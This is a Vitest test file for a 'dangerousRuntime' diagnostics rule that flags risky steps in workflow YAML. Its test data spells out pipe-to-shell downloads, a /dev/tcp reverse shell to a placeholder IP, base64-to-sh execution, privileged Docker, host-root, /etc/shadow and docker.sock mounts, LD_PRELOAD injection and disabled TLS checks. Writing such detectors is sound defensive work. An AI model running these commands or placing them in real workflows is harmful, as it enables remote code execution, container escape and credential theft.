import { expect, it } from 'vitest';
import { dangerousRuntime } from '../../shared/diagnostics/rules/dangerous-runtime.ts';
import { describeRule, marked } from './ruleHarness.ts';

describeRule(dangerousRuntime);

const rule = dangerousRuntime;
const shell = (command: string) => `- a:\n    run: { shell: { command: ${JSON.stringify(command)} } }\n`;
const mount = (path: string) => `- a:\n    run: { container: { image: x, volumes: { '${path}': /data } } }\n`;

it.each([
  ['curl -s https://example.com/a.sh | sudo bash -s -- -y', ['curl -s https://example.com/a.sh | sudo bash']],
  ['wget -qO- https://example.com/a.py | python3 -', ['wget -qO- https://example.com/a.py | python3']],
  ['bash <(curl https://example.com/a.sh)', ['bash <(curl']],
  ['eval $(curl https://example.com/a.sh)', ['eval $(curl']],
  ['docker run --rm --privileged x', ['--privileged']],
  ['docker run -v /:/host x ls', ['-v']],
  ['docker run -v "$PWD":/work x ls', []],
  [
    'curl -fsSL https://example.com/a.sh \\\n  | sudo -E bash -',
    ['curl -fsSL https://example.com/a.sh \\\n  | sudo -E bash'],
  ],
  ['curl -o /tmp/a https://example.com/a && sh /tmp/a', ['curl -o /tmp/a https://example.com/a && sh /tmp/a']],
  ['curl -o /tmp/a https://example.com/a && cat /tmp/a', []],
  ['wget -qO- https://example.com/a | tee a.sh | bash', ['wget -qO- https://example.com/a | tee a.sh | bash']],
  ['source <(curl -s https://example.com/a)', ['source <(curl']],
  ['python3 -c "$(curl -s https://example.com/a)"', [' -c "$(curl']],
  ['echo aWQK | base64 -d | sh', ['base64 -d | sh']],
  ['echo aWQK | base64 -d | jq .', []],
  ['bash -i >& /dev/tcp/203.0.113.1/4444 0>&1', ['/dev/tcp/2']],
  ['iwr https://example.com/a.ps1 | iex', ['iwr https://example.com/a.ps1 | iex']],
  ['curl -sSk https://example.com/', ['curl -sSk']],
  ['curl -okay https://example.com/', []],
  ['ssh -o StrictHostKeyChecking=no host ls', ['StrictHostKeyChecking=no']],
  ['curl -k https://example.com/', ['curl -k']],
  ['curl -s https://example.com/a.json | jq .', []],
  ['curl https://example.com/ | shasum', []],
  ['curl https://example.com/a.sh; sh b.sh', []],
  ['curl https://example.com/?q=-k', []],
  ['ls | sh', []],
])('reads the command %s', (command, expected) => {
  expect(marked(rule, shell(command))).toEqual(expected.map((part) => JSON.stringify(part).slice(1, -1)));
});

it('knows the places of the machine', () => {
  const places = ['/', '//', '/srv/../', '/etc', '/etc/shadow', '/proc/', '/proc/1/root', '/root/.ssh', 'C:\\'];
  for (const path of [...places, '/run/containerd.sock', '/var/run//docker.sock/', '//./pipe/docker_engine']) {
    expect(marked(rule, mount(path))).toHaveLength(1);
  }
  for (const path of ['/srv', '/etc/app', '/etc/ssl/certs', '/var/run/app', './etc'])
    expect(marked(rule, mount(path))).toEqual([]);
});

it('reads variables and tool servers', () => {
  const text = `- a:
    run: { shell: { command: ls, environment: { LD_PRELOAD: /x.so, NODE_TLS_REJECT_UNAUTHORIZED: '0', PATH: /bin } } }
- b:
    run: { shell: { command: ls, environment: { NODE_TLS_REJECT_UNAUTHORIZED: '1' } } }
- c:
    call: mcp
    with: { method: tools/list, transport: { stdio: { command: /bin/sh, arguments: ['-c', x] } } }
- d:
    set: { run: { shell: { command: "curl https://example.com | sh" } } }
`;
  expect(marked(rule, text)).toEqual(['LD_PRELOAD', 'NODE_TLS_REJECT_UNAUTHORIZED', '/bin/sh']);
});

it('reads code and options among the arguments of a program', () => {
  const text = `- a:
    run: { shell: { command: bash, arguments: ['-c', 'curl -s https://example.com/a | sh'] } }
- b:
    run: { shell: { command: sh, stdin: 'wget -qO- https://example.com/a | sh' } }
- c:
    run: { shell: { command: cat, stdin: 'wget -qO- https://example.com/a | sh' } }
- d:
    call: mcp
    with: { method: tools/list, transport: { stdio: { command: docker, arguments: [run, -v, '/var/run/docker.sock:/s', x] } } }
- e:
    call: mcp
    with: { method: tools/list, transport: { stdio: { command: /usr/bin/env, arguments: [A=1, bash, -c, x] } } }
- f:
    run: { script: { language: js, code: 'return 1', environment: { NODE_OPTIONS: '--require /x.js', GIT_SSL_NO_VERIFY: 'true' } } }
- g:
    run: { script: { language: js, code: 'return 1', environment: { NODE_OPTIONS: '--max-old-space-size=64' } } }
`;
  expect(marked(rule, text)).toEqual([
    'curl -s https://example.com/a | sh',
    'wget -qO- https://example.com/a | sh',
    '-v',
    '/usr/bin/env',
    'NODE_OPTIONS',
    'GIT_SSL_NO_VERIFY',
  ]);
});
